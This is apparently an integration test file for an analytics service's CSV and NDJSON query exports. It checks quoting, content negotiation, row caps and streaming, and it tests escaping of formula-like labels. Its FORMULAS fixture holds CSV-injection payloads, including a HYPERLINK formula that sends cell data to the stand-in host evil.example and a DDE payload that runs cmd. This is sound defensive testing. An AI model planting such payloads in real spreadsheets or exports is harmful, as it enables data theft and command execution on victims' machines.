import { beforeAll, describe, expect, it } from 'vitest';
import { loadFacts } from '../support/analytics-load.ts';
import { useCairn } from '../support/cairn.ts';
import { waitFor } from '../support/engines.ts';
import { type HttpResult, http } from '../support/http.ts';

/** A strict RFC 4180 reader: CRLF between records, quoted fields with `""` for a quote. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let at = 0;
  while (at < text.length) {
    if (text[at] === '"' && field === '') {
      at++;
      for (;;) {
        const quote = text.indexOf('"', at);
        if (quote < 0) throw new Error('unclosed quoted field');
        field += text.slice(at, quote);
        if (text[quote + 1] === '"') {
          field += '"';
          at = quote + 2;
        } else {
          at = quote + 1;
          break;
        }
      }
      if (at < text.length && text[at] !== ',' && text[at] !== '\r') {
        throw new Error(`text after a closing quote at ${at}`);
      }
      continue;
    }
    const char = text[at] as string;
    if (char === ',') {
      record.push(field);
      field = '';
      at++;
    } else if (char === '\r') {
      if (text[at + 1] !== '\n') throw new Error(`a bare CR at ${at}`);
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      at += 2;
    } else if (char === '\n' || char === '"') {
      throw new Error(`an unquoted ${JSON.stringify(char)} at ${at}`);
    } else {
      field += char;
      at++;
    }
  }
  if (field !== '' || record.length > 0) throw new Error('the last record has no CRLF');
  return records;
}

/** A JSON row as the CSV writes it: nested comparison members flattened, null as nothing. */
function flatten(row: Record<string, unknown>): Record<string, string> {
  const flat: Record<string, string> = {};
  for (const [key, value] of Object.entries(row)) {
    if (value !== null && typeof value === 'object') {
      for (const [inner, v] of Object.entries(value))
        flat[`${key}.${inner}`] = v === null ? '' : String(v);
    } else flat[key] = value === null ? '' : String(value);
  }
  return flat;
}

const LABELS = ['with, comma', 'say "hi"', 'two\nlines,\ta tab and a back\\slash'];
const CSV = { Accept: 'text/csv' };
const NDJSON = { Accept: 'application/x-ndjson' };

describe('query exports: CSV and NDJSON', () => {
  const cairn = useCairn({
    // Four project rows fit the export cap; the fifth (plain) is one too many.
    env: {
      CAIRN_EXPORT_MAX_ROWS: '4',
      CAIRN_QUERY_MAX_ROWS: '50',
      CAIRN_STALE_AFTER_MS: '86400000',
    },
    businesses: ['acme'],
  });
  const post = (body: unknown, headers: Record<string, string> = {}) =>
    http(cairn.url, 'POST', '/api/v1/query', { body, headers: { ...cairn.auth, ...headers } });
  const get = (query: unknown, headers: Record<string, string> = {}) =>
    http(cairn.url, 'GET', `/api/v1/query?q=${encodeURIComponent(JSON.stringify(query))}`, {
      headers: { ...cairn.auth, ...headers },
    });
  const exp = (body: unknown, headers: Record<string, string> = {}) =>
    http(cairn.url, 'POST', '/api/v1/query/export', {
      body,
      headers: { ...cairn.auth, ...headers },
    });
  const expGet = (query: unknown, headers: Record<string, string> = {}) =>
    http(cairn.url, 'GET', `/api/v1/query/export?q=${encodeURIComponent(JSON.stringify(query))}`, {
      headers: { ...cairn.auth, ...headers },
    });
  const labelled = {
    metrics: ['tasks_created', 'completion_rate'],
    dimensions: ['project'],
    period: 'last_7_days',
    filters: [{ dimension: 'project', op: 'in', values: [...LABELS, null] }],
  };

  /** The JSON answer's rows beside the CSV export's, header and records. */
  async function both(query: unknown) {
    const json = await post(query);
    expect(json.status).toBe(200);
    const csv = await exp(query, CSV);
    expect(csv.status).toBe(200);
    const [header, ...records] = parseCsv(csv.text);
    return { rows: json.body.data as Record<string, unknown>[], csv, header, records };
  }

  beforeAll(async () => {
    const writer = await cairn.token({ scopes: ['workflows:write'], businesses: ['acme'] });
    for (const project of [...LABELS, 'plain', undefined]) {
      const res = await http(cairn.url, 'POST', '/api/v1/tasks', {
        body: { business: 'acme', name: `Task in ${project}`, ...(project ? { project } : {}) },
        headers: writer,
      });
      expect(res.status).toBe(201);
    }
    await waitFor(
      async () => {
        const res = await post({ metrics: ['tasks_created'], period: 'last_7_days' });
        return res.body.data[0]?.tasks_created === 5;
      },
      { timeoutMs: 60_000 },
    );
  }, 90_000);

  it('CSV quotes labels holding a comma, a quote or a line break, and gives null as nothing', async () => {
    const { rows, csv, header, records } = await both(labelled);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(csv.headers.get('content-disposition')).toMatch(/^attachment; filename="[^"]+\.csv"$/);
    expect(csv.headers.get('cairn-warnings')).toBeNull();
    expect(csv.text).toContain('"with, comma",');
    expect(csv.text).toContain('"say ""hi""",');
    expect(csv.text).toContain('"two\nlines,\ta tab and a back\\slash",');
    expect(csv.text.endsWith('\r\n')).toBe(true);
    // The task without a project is the null row: its label is an empty field, unquoted.
    expect(rows).toHaveLength(4);
    expect(rows.filter((row) => row.project === null)).toHaveLength(1);
    expect(header).toEqual(Object.keys(rows[0] as object));
    expect(records).toEqual(rows.map((row) => header?.map((key) => flatten(row)[key])));
    expect(records.filter((record) => record[0] === '')).toHaveLength(1);
    expect(csv.text).toMatch(/\r\n,1,/);
  });

  it('a metric without a value is an empty field', async () => {
    const query = {
      metrics: ['avg_cycle_time_hours'],
      dimensions: ['project'],
      period: 'last_7_days',
      limit: 2,
    };
    const { rows, records } = await both(query);
    expect(rows.map((row) => row.avg_cycle_time_hours)).toEqual([null, null]);
    expect(records.map((record) => record[1])).toEqual(['', '']);
  });

  it('with compare, the header gives comparison.<metric> then change.<metric> after the metrics', async () => {
    const query = { ...labelled, compare: 'previous_period' };
    const { rows, header, records } = await both(query);
    expect(header).toEqual([
      'project',
      'tasks_created',
      'completion_rate',
      'comparison.tasks_created',
      'comparison.completion_rate',
      'change.tasks_created',
      'change.completion_rate',
    ]);
    expect(records).toEqual(rows.map((row) => header?.map((key) => flatten(row)[key])));
  });

  it.each([
    ['a breakdown', labelled],
    ['a comparison', { ...labelled, compare: 'previous_period' }],
    [
      'a series',
      { metrics: ['tasks_created', 'open_tasks'], dimensions: ['day'], period: 'last_7_days' },
    ],
  ])('NDJSON gives one line per row, equal to the JSON rows: %s', async (_name, query) => {
    const json = await post(query);
    const ndjson = await exp(query, NDJSON);
    expect(ndjson.status).toBe(200);
    expect(ndjson.headers.get('content-type')).toBe('application/x-ndjson');
    expect(ndjson.text.endsWith('\n')).toBe(true);
    const lines = ndjson.text.trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line))).toEqual(json.body.data);
    // Not only equal as values: the keys come in the JSON answer's order.
    expect(lines.map((line) => Object.keys(JSON.parse(line)))).toEqual(
      json.body.data.map((row: object) => Object.keys(row)),
    );
  });

  it('stops at CAIRN_EXPORT_MAX_ROWS and says so in Cairn-Warnings; a caller limit below it is no truncation', async () => {
    const all = { metrics: ['tasks_created'], dimensions: ['project'], period: 'last_7_days' };
    // The JSON answer keeps its own cap: all five rows.
    expect((await post(all)).body.data).toHaveLength(5);
    const cut = await exp(all, CSV);
    expect(cut.headers.get('cairn-warnings')).toBe('result_truncated');
    expect(parseCsv(cut.text)).toHaveLength(1 + 4);
    const lines = await exp(all, NDJSON);
    expect(lines.headers.get('cairn-warnings')).toBe('result_truncated');
    expect(lines.text.trimEnd().split('\n')).toHaveLength(4);
    // A limit over the export cap is held to the cap, and warned of.
    const over = await exp({ ...all, limit: 10 }, CSV);
    expect(over.headers.get('cairn-warnings')).toBe('result_truncated');
    expect(parseCsv(over.text)).toHaveLength(1 + 4);
    const own = await exp({ ...all, limit: 2 }, CSV);
    expect(own.headers.get('cairn-warnings')).toBeNull();
    expect(parseCsv(own.text)).toHaveLength(1 + 2);
  });

  it('the GET form exports alike', async () => {
    const viaPost = await exp(labelled, CSV);
    const viaGet = await expGet(labelled, CSV);
    expect(viaGet.status).toBe(200);
    expect(viaGet.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(viaGet.headers.get('content-disposition')).toMatch(/^attachment; filename=".+\.csv"$/);
    expect(viaGet.headers.get('vary')).toMatch(/\bAccept\b/);
    expect(viaGet.text).toBe(viaPost.text);
    const lines = await expGet(labelled, NDJSON);
    expect(
      lines.text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line)),
    ).toEqual((await get(labelled)).body.data);
  });

  it('an invalid request keeps its JSON error shapes when it asked for CSV', async () => {
    const bad = { metrics: ['no_such_metric'] };
    for (const res of [await exp(bad, CSV), await expGet(bad, NDJSON)]) {
      expect(res.status).toBe(422);
      expect(res.headers.get('content-type')).toMatch(/^application\/json/);
      expect(res.body.detail[0].loc).toContain('metrics');
    }
    const tooMany = await exp(
      {
        metrics: ['tasks_created'],
        dimensions: ['hour'],
        date_range: ['2020-01-01', '2026-01-01'],
      },
      CSV,
    );
    expect(tooMany.status).toBe(422);
    expect(tooMany.body.detail[0].type).toBe('too_many_buckets');
  });

  it.each([
    [undefined, 'text/csv'],
    ['*/*', 'text/csv'],
    ['application/json, text/csv', 'text/csv'],
    ['text/csv;q=0.5, application/x-ndjson;q=0.9', 'application/x-ndjson'],
    ['text/*', 'text/csv'],
    ['application/x-ndjson, */*;q=0.1', 'application/x-ndjson'],
  ])('the export operation answers Accept %s with %s', async (accept, type) => {
    const res = await exp(labelled, accept === undefined ? {} : { Accept: accept });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')?.split(';')[0]).toBe(type);
  });

  it('an Accept the export cannot answer is a 406 problem naming its forms', async () => {
    for (const accept of ['image/png', 'application/json', 'text/csv;q=0, application/json']) {
      const res = await exp(labelled, { Accept: accept });
      expect(res.status).toBe(406);
      expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      expect(res.body.detail).toMatch(/text\/csv/);
    }
  });

  it('/query answers JSON only: a file is a 406 problem naming the export operation', async () => {
    for (const accept of [undefined, '*/*', 'application/json, text/csv']) {
      const res = await post(labelled, accept === undefined ? {} : { Accept: accept });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')?.split(';')[0]).toBe('application/json');
    }
    for (const res of [await post(labelled, CSV), await get(labelled, NDJSON)]) {
      expect(res.status).toBe(406);
      expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
      expect(res.body.detail).toMatch(/\/api\/v1\/query\/export/);
    }
  });
});

/** Labels a spreadsheet would run as formulas (OWASP "CSV injection"). */
const FORMULAS = {
  hyperlink: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  command: "+cmd|' /C calc'!A0",
  arithmetic: '-2+3',
  at: '@SUM(1+1)',
  tab: '\tleading tab',
  cr: '\rleading CR',
};
const FORMULA_START = /^[=+\-@\t\r]/;
const DAY_MS = 86_400_000;

// CAIRN_CSV_FORMULA_ESCAPE is a setting of each Cairn: each suite starts its own.
describe.each<{ escapes: boolean; env: Record<string, string> }>([
  { escapes: true, env: {} },
  { escapes: false, env: { CAIRN_CSV_FORMULA_ESCAPE: 'false' } },
])('query exports: labels that start like a formula (escape $escapes)', ({ escapes, env }) => {
  // Last week's tasks, then this week's: a comparison with fewer now has negative changes.
  let clock = Date.now() - 7 * DAY_MS;
  const cairn = useCairn({
    now: () => new Date(clock),
    env: { CAIRN_STALE_AFTER_MS: '86400000', ...env },
    businesses: ['acme'],
  });
  const post = (body: unknown, headers: Record<string, string> = {}) =>
    http(cairn.url, 'POST', '/api/v1/query', { body, headers: { ...cairn.auth, ...headers } });
  const exp = (body: unknown, headers: Record<string, string> = {}) =>
    http(cairn.url, 'POST', '/api/v1/query/export', {
      body,
      headers: { ...cairn.auth, ...headers },
    });
  const dimensions = ['project', 'assignee'];

  beforeAll(async () => {
    const writer = await cairn.token({ scopes: ['workflows:write'], businesses: ['acme'] });
    const create = async (project: string, assignee: string) => {
      const res = await http(cairn.url, 'POST', '/api/v1/tasks', {
        body: { business: 'acme', name: 'Task', project, assignee },
        headers: writer,
      });
      expect(res.status).toBe(201);
    };
    const labelled = () =>
      Promise.all(Object.values(FORMULAS).map((label) => create(label, 'plain')));
    for (let i = 0; i < 3; i++) await create(FORMULAS.hyperlink, FORMULAS.at);
    await labelled();
    clock = Date.now();
    await create(FORMULAS.hyperlink, FORMULAS.at);
    await labelled();
    await waitFor(
      async () => {
        const res = await post({ metrics: ['tasks_created'], period: 'last_30_days' });
        return res.body.data[0]?.tasks_created === 16;
      },
      { timeoutMs: 60_000 },
    );
  }, 90_000);

  /** The CSV fields a JSON row gives: labels that start like a formula behind a `'` (when on). */
  const expected = (header: string[], row: Record<string, unknown>) =>
    header.map((key) => {
      const value = flatten(row)[key] as string;
      return escapes && dimensions.includes(key) && FORMULA_START.test(value) ? `'${value}` : value;
    });

  it.each([
    ['read straight from the engine (a breakdown)', { period: 'last_30_days' }],
    ['built from the answer (a comparison)', { period: 'last_7_days', compare: 'previous_period' }],
  ])('CSV %s', async (_name, shape) => {
    const query = { metrics: ['tasks_created'], dimensions, ...shape };
    const json = await post(query);
    expect(json.status).toBe(200);
    const rows = json.body.data as Record<string, unknown>[];
    // The JSON answer keeps the labels as they are.
    expect(rows.map((row) => row.project)).toEqual(
      expect.arrayContaining([FORMULAS.hyperlink, FORMULAS.command, FORMULAS.tab]),
    );
    const csv = await exp(query, CSV);
    expect(csv.status).toBe(200);
    const [header, ...records] = parseCsv(csv.text);
    expect(records).toEqual(rows.map((row) => expected(header as string[], row)));
    const hyperlink = records.find((record) => record[0]?.endsWith(FORMULAS.hyperlink));
    expect(hyperlink?.slice(0, 2)).toEqual(
      escapes ? [`'${FORMULAS.hyperlink}`, `'${FORMULAS.at}`] : [FORMULAS.hyperlink, FORMULAS.at],
    );
    expect(csv.text).toContain(escapes ? `\r\n'-2+3,plain,` : '\r\n-2+3,plain,');
    if ('compare' in shape) {
      // 1 this week against 3 the week before: numbers stay plain, negative ones included.
      const change = header?.indexOf('change.tasks_created') as number;
      expect(hyperlink?.[change]).toBe(String((1 - 3) / 3));
      expect(csv.text).toContain(`,3,${(1 - 3) / 3}\r\n`);
    }
  });

  it('NDJSON keeps the labels as they are', async () => {
    const query = { metrics: ['tasks_created'], dimensions, period: 'last_30_days' };
    const json = await post(query);
    const lines = (await exp(query, NDJSON)).text.trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line))).toEqual(json.body.data);
    expect(json.body.data.map((row: { project: string }) => row.project)).toContain(FORMULAS.at);
  });
});

describe('query exports: a large one streams', () => {
  const BUSINESSES = ['biz-0', 'biz-1', 'biz-2', 'biz-3'];
  const cairn = useCairn({ businesses: BUSINESSES, env: { CAIRN_QUERY_TIMEOUT_MS: '60000' } });
  beforeAll(() => loadFacts(cairn.engines.clickhouse.client), 180_000);

  /** Reads an export, counting its lines without keeping them, and the RSS at its highest. */
  async function measure(
    query: unknown,
  ): Promise<{ res: Response; lines: number; growth: number }> {
    global.gc?.();
    const before = process.memoryUsage().rss;
    let peak = before;
    const sampler = setInterval(() => {
      peak = Math.max(peak, process.memoryUsage().rss);
    }, 10);
    try {
      const res = await fetch(`${cairn.url}/api/v1/query/export`, {
        method: 'POST',
        headers: { ...cairn.auth, 'Content-Type': 'application/json', Accept: 'text/csv' },
        body: JSON.stringify(query),
      });
      let lines = 0;
      const decoder = new TextDecoder();
      for await (const chunk of res.body as unknown as AsyncIterable<Uint8Array>) {
        // Line feeds: a CRLF may be split between two chunks. Generated labels have none.
        lines += decoder.decode(chunk, { stream: true }).split('\n').length - 1;
        peak = Math.max(peak, process.memoryUsage().rss);
      }
      return { res, lines, growth: peak - before };
    } finally {
      clearInterval(sampler);
    }
  }

  it('a 200k-row export arrives whole, chunked, with the process growing by far less than the rows', async () => {
    const query = {
      metrics: ['tasks_created', 'tasks_completed'],
      dimensions: ['day', 'assignee', 'project'],
      period: 'this_year',
    };
    const json = await http(cairn.url, 'POST', '/api/v1/query', {
      body: { ...query, limit: 1 },
      headers: cairn.auth,
    });
    const total = (json as HttpResult).body.metadata.total_rows as number;
    expect(total).toBeGreaterThan(200_000);
    const { res, lines, growth } = await measure(query);
    expect(res.status).toBe(200);
    expect(res.headers.get('transfer-encoding')).toBe('chunked');
    expect(res.headers.get('cairn-warnings')).toBeNull();
    expect(lines).toBe(1 + total);
    // Loose on purpose (the server and the embedded engine, whose aggregation is most of the
    // growth, share this process with the test): the tight figure is bench/export.bench.ts's.
    expect(growth, `RSS grew by ${(growth / 1048576).toFixed(1)} MiB`).toBeLessThan(256 * 1048576);
  }, 180_000);
});
